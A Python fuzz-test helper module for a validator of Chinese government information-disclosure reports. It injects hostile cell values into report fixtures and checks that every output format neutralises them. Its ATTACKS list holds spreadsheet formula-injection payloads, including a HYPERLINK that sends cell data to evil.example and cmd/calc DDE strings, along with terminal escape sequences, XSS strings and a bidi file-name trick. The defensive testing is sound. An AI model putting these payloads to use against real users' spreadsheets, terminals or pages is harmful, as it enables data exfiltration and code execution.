"""Builders of hostile and broken inputs for the fuzz categories (tests/fuzz/test_*.py), all
derived from the seed report and its fixtures at test time, and the assertions they share.
"""
from __future__ import annotations

import csv
import functools
import hashlib
import io
import json
import math
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from lxml import html as lhtml
from rich.console import Console

from validator.outputs import FORMATS, module
from validator.outputs import console as console_out
from validator.outputs.safe import FORMULA_START, csv_cell, markup, terminal
from validator.run import check_paths

from ..cli import invoke
from ..conftest import ROOT, SEED

SEED_TEXT = SEED.read_text(encoding="utf-8")
NEW_ROW = "一、本年新收政府信息公开申请数量\t\t4\t"
SETTINGS = settings(max_examples=25, deadline=None, derandomize=True, database=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])

# What attackers put in a cell, a title or a file name (no tab or line break: those change
# the table's structure in a text report; file names get them in their own test).
ATTACKS = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "\x1b[31m红色\x1b[0m", "\x1b]8;;http://evil.example\x07链接\x1b]8;;\x07",
    "\x1b]0;title\x07", "\x9b31m", "\x07\x08\x7f", "[bold red]粗体[/]", "[/]", "[link=http://evil.example]x[/link]",
    "[", "]", "\\[x]", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "]]><!--", "&amp;&#0;",
    "\u202egnp.exe", "NaN", "Infinity", "{\"a\": 1}", "\r=1+1",
]
_SAFE_CHARS = st.characters(blacklist_categories=("Cs",), blacklist_characters="\t\n\r")
PAYLOADS = st.one_of(st.sampled_from(ATTACKS), st.text(_SAFE_CHARS, min_size=1, max_size=24),
                     st.tuples(st.sampled_from(ATTACKS), st.text(_SAFE_CHARS, max_size=8)).map("".join))


def _report_with(payload: str) -> str:
    """The seed with ``payload`` as the issuing body (title), in the first value cell of
    表三's 本年新收 row and as the label of an extra 表三 row (S005 quotes it). The text
    reader takes the cell's text into the row's label (no number before it), so the row's
    numbers shift one column (T301, B001) and the payload reaches the outputs through the
    cells and labels they show, not through an X001 quote."""
    text = SEED_TEXT.replace(NEW_ROW, NEW_ROW.replace("\t4\t", f"\t{payload}x\t"), 1)
    text = text.replace("(六) 其他处理\t", f"{payload}行\t1\t2\t3\t4\t5\t6\t7\n(六) 其他处理\t", 1)
    return f"{payload}人民政府2020年政府信息公开工作年度报告\n" + text


def _render_all(result) -> dict[str, str]:
    out = {}
    for name in FORMATS:
        if name == "console":
            buf = io.StringIO()
            console_out.render(result, Console(file=buf, width=200, color_system=None, force_terminal=False),
                               show_info=True)
            out[name] = buf.getvalue()
        else:
            out[name] = module(name).render(result)
    return out


_TERMINAL_BAD = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _assert_safe(outputs: dict[str, str], n_files: int | None) -> None:
    # console: no control character at all (rich adds none without a colour system), one verdict line per file
    con = outputs["console"]
    assert not _TERMINAL_BAD.search(con), repr(_TERMINAL_BAD.search(con).group(0))
    verdicts = [ln for ln in con.splitlines() if ln[:2] in ("✔ ", "✘ ", "! ")]
    assert n_files is None or len(verdicts) == n_files, verdicts
    # csv: every cell is a number or text no spreadsheet runs
    rows = list(csv.reader(io.StringIO(outputs["csv"].lstrip("\ufeff"), newline="")))
    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in FORMULA_START or re.fullmatch(r"-?[0-9.]+", cell), (cell, row[2])
    # json, sarif: strict JSON (no NaN/Infinity constants)
    for name in ("json", "sarif"):
        def constant(c):
            raise AssertionError(f"{name} contains {c}")
        json.loads(outputs[name], parse_constant=constant)
    # junit: well-formed XML
    etree.fromstring(outputs["junit"].encode("utf-8"))
    # html: only the page's own script, no event handler, no javascript: URL from the report
    page = lhtml.fromstring(outputs["html"])
    assert len(page.xpath("//script")) == 1
    assert not page.xpath("//@*[starts-with(name(), 'on')]")
    assert not page.xpath("//img | //iframe | //object | //embed | //a[starts-with(@href, 'javascript')]")


def _digest(p: Path) -> str:
    return hashlib.sha256(p.read_bytes()).hexdigest()


def _cli(*args, cwd=ROOT):
    return invoke(*args, cwd=cwd)  # in-process (tests/cli.py)


def _aliases(tmp: Path, target: Path) -> dict[str, Path]:
    """Other names for ``target``: itself, through ``..``, a symlink, a hard link."""
    (target.parent / "sub").mkdir(exist_ok=True)
    sym, hard = tmp / "sym.out", tmp / "hard.out"
    for p in (sym, hard):
        if p.exists() or p.is_symlink():
            p.unlink()
    sym.symlink_to(target)
    os.link(target, hard)
    return {"same": target, "dotdot": target.parent / "sub" / ".." / target.name, "symlink": sym, "hardlink": hard}


HUGE = ["1e309", "inf", "-inf", "NaN", "Infinity", "9" * 400, "9" * 5000, "10000000000", "1,000,000,000,000",
        "1000000001"]
AMBIGUOUS = ["8 8", "4 4", "2¹", "4²", "2①", "4⑴", "٤", "४", "4\u00a04", "4*", "4※", "4[1]", "4注1"]
CELL = ("t3", "new", "natural_person")


def _seed_with_cell(value: str) -> str:
    return SEED_TEXT.replace(NEW_ROW, NEW_ROW.replace("\t4\t", f"\t{value}\t"), 1)


def _html_with_cell(value: str) -> bytes:
    from html import escape

    page = (ROOT / "tests" / "fixtures" / "taiqian_2020.html").read_bytes().decode("gb18030")
    at = page.index("一、本年新收政府信息公开申请数量")
    cell = page.index(">4</span>", at)
    return (page[:cell] + f">{escape(value)}</span>" + page[cell + len(">4</span>"):]).encode("gb18030")


@functools.cache
def _seed_workbook():
    """The XLSX fixture loaded once (openpyxl's load is the slow part of building a variant)
    and its 表三 一、本年新收 × 自然人 cell (4)."""
    from openpyxl import load_workbook

    wb = load_workbook(ROOT / "tests" / "fixtures" / "taiqian_2020.xlsx")
    ws = wb.worksheets[0]
    for row in ws.iter_rows():
        labels = [c for c in row if isinstance(c.value, str) and c.value.startswith("一、本年新收")]
        if labels:
            return wb, next(c for c in row if c.column > labels[0].column and c.value == 4)
    raise AssertionError("the XLSX fixture has no 一、本年新收 row")


def _xlsx_with_cell(value) -> bytes:
    """The XLSX fixture with ``value`` in that cell (the shared workbook is put back as it was)."""
    wb, cell = _seed_workbook()
    buf = io.BytesIO()
    try:
        cell.value = value
        wb.save(buf)
    finally:
        cell.value = 4
    return buf.getvalue()


def _canonical_with_cell(tmp: Path, value: str, fmt: str) -> Path:
    df = _canonical_frame(tmp)
    at = (df.table == CELL[0]) & (df.row_code == CELL[1]) & (df.column_code == CELL[2])
    df["value"] = df["value"].astype(object)
    df.loc[at, "value"], df.loc[at, "raw"] = value, value
    out = tmp / f"cells.{fmt}"
    if fmt == "csv":
        df.to_csv(out, index=False, encoding="utf-8-sig")
    elif fmt == "json":
        text = df.to_json(orient="records", force_ascii=False).replace(json.dumps(value), value)
        out.write_text(text, encoding="utf-8")  # the number as written, unquoted (1e309, NaN, Infinity)
    else:
        try:
            df["value"] = df["value"].astype(float)
        except (ValueError, OverflowError):  # a text column, as a hand-made file may have
            df["value"] = df["value"].map(lambda v: None if v is None or v != v else str(v))
        df.to_parquet(out, index=False)
    return out


def _forms(tmp: Path, value: str) -> dict[str, Path]:
    """The seed with ``value`` in 表三 一、本年新收 × 自然人, in every input form."""
    paths = {}
    (tmp / "r.txt").write_text(_seed_with_cell(value), encoding="utf-8")
    paths["text"] = tmp / "r.txt"
    (tmp / "r.html").write_bytes(_html_with_cell(value))
    paths["html"] = tmp / "r.html"
    (tmp / "r.xlsx").write_bytes(_xlsx_with_cell(value))
    paths["xlsx-text"] = tmp / "r.xlsx"
    try:
        number = float(value.replace(",", ""))
    except ValueError:
        number = None
    if number is not None and math.isfinite(number):  # XLSX cannot store inf or NaN (openpyxl writes nothing)
        (tmp / "n.xlsx").write_bytes(_xlsx_with_cell(number))
        paths["xlsx-number"] = tmp / "n.xlsx"
    narrative = SEED_TEXT.replace("共受理政府信息公开申请4件", f"共受理政府信息公开申请{value}件")
    (tmp / "n.txt").write_text(narrative, encoding="utf-8")
    paths["narrative"] = tmp / "n.txt"
    for fmt in ("csv", "json", "parquet"):
        d = tmp / fmt
        d.mkdir(exist_ok=True)
        paths[f"canonical-{fmt}"] = _canonical_with_cell(d, value, fmt)
    return paths


def _cell_outcome(f) -> str:
    """What the run says about the cell: unreadable file, a finding on the cell, or nothing."""
    if f.status == "unreadable":
        return "unreadable"
    rules = {x["rule"] for x in f.findings if (x.get("table_code"), x.get("row_code"), x.get("column_code")) == CELL}
    if not rules and any(x["rule"] == "X006" and x.get("table_code") == CELL[0] for x in f.findings):
        return "X006"  # the reader did not see 表三 as a table at all (an error, never a pass)
    return ",".join(sorted(rules)) or "nothing"


# numbers no count can be: past 10^9, with thousands separators, in exponent form, non-finite
GENERATED_HUGE = st.one_of(
    st.integers(10 ** 9 + 1, 10 ** 60).map(str), st.integers(10 ** 9 + 1, 10 ** 30).map("{:,}".format),
    st.floats(allow_nan=True, allow_infinity=True).filter(lambda v: not math.isfinite(v) or abs(v) > 1e9).map(repr),
    st.integers(310, 5000).map(lambda n: f"1e{n}"), st.integers(400, 6000).map(lambda n: "9" * n),
    st.sampled_from(["Infinity", "-Infinity", "NaN", "nan", "inf", "+inf", "∞"]))


def _canonical_frame(tmp: Path):
    """The seed's canonical cells, as read from ``tmp``/seed.txt (written there): the seed is
    read once, and each call gets a fresh copy naming its own file."""
    src = tmp / "seed.txt"
    src.write_text(SEED_TEXT, encoding="utf-8")
    df = _seed_canonical().copy()
    df["file"] = str(src)
    return df


@functools.cache
def _seed_canonical():
    import tempfile

    import pandas as pd

    from validator import canonical
    from validator.run import load_reports

    with tempfile.TemporaryDirectory() as d:
        src = Path(d) / "seed.txt"
        src.write_text(SEED_TEXT, encoding="utf-8")
        return pd.DataFrame(canonical.records(load_reports(src)), columns=canonical.COLUMNS)


_TABLE_NUMBER = re.compile(r"(?<![^\t\n])[0-9][0-9,.]*(?![^\t\n])")


def _blank_seed() -> str:
    """The seed with every number of every table removed (the form as published, not filled in)."""
    lines = SEED_TEXT.split("\n")
    return "\n".join(_TABLE_NUMBER.sub("", ln) if "\t" in ln or _TABLE_NUMBER.fullmatch(ln.strip() or "x") else ln
                     for ln in lines)


def _blank_xlsx() -> bytes:
    from openpyxl import load_workbook

    wb = load_workbook(ROOT / "tests" / "fixtures" / "taiqian_2020.xlsx")
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, (int, float)) and not isinstance(c.value, bool):
                    c.value = None
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _titled(name: str, year: int, text: str = SEED_TEXT) -> str:
    return f"{name}{year}年政府信息公开工作年度报告\n" + text


def _styled_cells_xlsx(n: int) -> bytes:
    """A valid XLSX whose sheet stores ``n`` empty styled cells (and one merged range, so
    openpyxl would load it in its non-lazy mode)."""
    cols = 100
    rows = "".join(f'<row r="{r}">' + "".join(f'<c r="{_col(c)}{r}" s="1"/>' for c in range(1, cols + 1)) + "</row>"
                   for r in range(1, n // cols + 1))
    sheet = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             f"<sheetData>{rows}</sheetData><mergeCells count=\"1\"><mergeCell ref=\"A1:B1\"/></mergeCells>"
             "</worksheet>")
    from openpyxl import Workbook

    wb = Workbook()
    wb.active["A1"] = "x"
    buf = io.BytesIO()
    wb.save(buf)
    out = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = sheet.encode() if info.filename == "xl/worksheets/sheet1.xml" else src.read(info)
            dst.writestr(info.filename, data)
    return out.getvalue()


def _col(n: int) -> str:
    s = ""
    while n:
        n, r = divmod(n - 1, 26)
        s = chr(65 + r) + s
    return s


BUDGET = 10.0
"""Seconds per file in the budget tests: far more than the good file of their batches needs
(about 0.1 s of CPU warm, under a second cold and under load), and less than the default
budget (60 s), so that a stage timed by the default instead is seen. No test waits for it:
see :class:`Stall`."""


class Stall:
    """A stage that runs past its file's budget, without waiting the budget out: the
    budget's one timer (SIGALRM, armed by ``validator.run._deadline`` around every stage) is
    brought forward to fire at once, and the stage sleeps until it does; the product's own
    handler then ends the stage as the real timer would. ``left`` records what was left on
    the timer at each call: a stage that is not timed leaves 0 there and just returns."""

    def __init__(self):
        self.left: list[float] = []

    def __call__(self, *args, **kwargs):
        import signal
        import time

        left = signal.getitimer(signal.ITIMER_REAL)[0]
        self.left.append(left)
        if left > 0:
            signal.setitimer(signal.ITIMER_REAL, 0.001)
            time.sleep(3 * BUDGET)  # interrupted by the timer


def _far_right_xlsx(rows: int) -> bytes:
    """A valid XLSX with one stored cell per row, in the last column (XFD): few cells, but
    a reader that pads rows to their last column makes 16,384 positions of each row."""
    body = "".join(f'<row r="{r}"><c r="XFD{r}" t="inlineStr"><is><t>x</t></is></c></row>' for r in range(1, rows + 1))
    return _with_sheet(f"<sheetData>{body}</sheetData>")


def _with_sheet(inner: str) -> bytes:
    import zipfile

    from openpyxl import Workbook

    sheet = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{inner}</worksheet>')
    wb = Workbook()
    wb.active["A1"] = "x"
    buf, out = io.BytesIO(), io.BytesIO()
    wb.save(buf)
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, inner and sheet.encode() if info.filename == "xl/worksheets/sheet1.xml"
                         else src.read(info))
    return out.getvalue()


LONG_VALUES = {"digits": ("9" * 5000, "X010"), "text": ("这是一段很长的说明文字" * 40, "X001"),
               "paragraphs": ("申请人撤回了申请。" * 30 + "</span></p><p><span>" + "本机关已答复。" * 30, "X001"),
               "lines": ("申请人撤回了申请" * 30 + "<br/>" + "9" * 400 + "<br/>", "X001")}
HTML_ROWS = {"一、本年新收政府信息公开申请数量": ("t3", "new", "natural_person"),
             "（一）予以公开": ("t3", "results.granted", "natural_person"),
             "1.属于国家秘密": ("t3", "results.withheld.state_secret", "natural_person"),
             "四、结转下年度继续办理": ("t3", "carried_forward", "natural_person"),
             "维持": ("t4", "review", "upheld")}


def _codes_pattern():
    from validator.template import TEMPLATE

    codes = {t.code for t in TEMPLATE.tables.values()}
    codes |= {e.code for t in TEMPLATE.tables.values() for e in (*t.rows, *t.columns) if "_" in e.code or "." in e.code}
    alt = "|".join(sorted(map(re.escape, codes), key=len, reverse=True))
    return re.compile(rf"(?<![A-Za-z0-9_.])(?:{alt})(?![A-Za-z0-9_])")
